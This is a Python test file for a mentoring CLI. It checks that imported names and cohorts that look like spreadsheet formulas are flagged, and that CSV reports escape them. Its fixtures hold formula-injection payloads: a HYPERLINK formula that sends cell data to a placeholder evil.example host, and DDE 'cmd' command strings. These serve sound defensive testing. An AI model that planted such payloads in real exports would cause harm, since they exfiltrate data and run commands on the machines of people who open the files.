"""Names and cohorts that start like spreadsheet formulas (issue 13, item 3): ``import`` flags them with a
warning per cell, and no CSV that ``report --format csv`` writes has a cell a spreadsheet would run."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from mentorbot.cli import main

EVIL_GUIDE = '=HYPERLINK("https://evil.example/?"&A1,"Dr Who")'
EVIL_LEARNER = "+cmd|' /C calc'!A0"
EVIL_COHORT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def database(cli_database: None) -> None:
    """Every command here runs against the test database."""


def _roster(tmp_path: Path) -> tuple[Path, Path]:
    people = tmp_path / "people.csv"
    with people.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["email", "name", "roles", "cohort", "stage", "timezone", "capacity"])
        writer.writerow(["coord@example.org", "Cora", "coordinator", "", "", "", ""])
        writer.writerow(["guide@example.org", EVIL_GUIDE, "guide", EVIL_COHORT, "", "", ""])
        writer.writerow(["learner@example.org", EVIL_LEARNER, "mentee", EVIL_COHORT, "", "", ""])
    matches = tmp_path / "matches.csv"
    matches.write_text(
        "match_id,kind,format,guides,learners,peers,start,end,cadence_days,assessor_conflict,override_reason\n"
        "m-1,mentoring,one-to-one,guide@example.org,learner@example.org,,2026-01-12,2026-12-18,28,no,\n",
        encoding="utf-8",
    )
    return people, matches


def test_import_flags_formula_like_names_and_cohorts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    people, matches = _roster(tmp_path)

    assert main(["import", "--people", str(people), "--matches", str(matches)]) == 0

    warnings = [line for line in capsys.readouterr().err.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 4  # the two names and the two cohorts
    assert any("people.csv:3: name" in w and "spreadsheet formula" in w for w in warnings)
    assert any("people.csv:4: cohort" in w for w in warnings)


def test_no_cell_of_the_csv_report_starts_like_a_formula(tmp_path: Path) -> None:
    people, matches = _roster(tmp_path)
    assert main(["import", "--people", str(people), "--matches", str(matches)]) == 0
    out = tmp_path / "report"

    assert main(["report", "--format", "csv", "--out", str(out), "--now", "2026-03-02T09:00:00Z"]) == 0

    cells: list[str] = []
    for path in sorted(out.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert dangerous == []
    assert "'" + EVIL_GUIDE in cells  # the name is still there, as text
    assert any(EVIL_LEARNER in c for c in cells)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
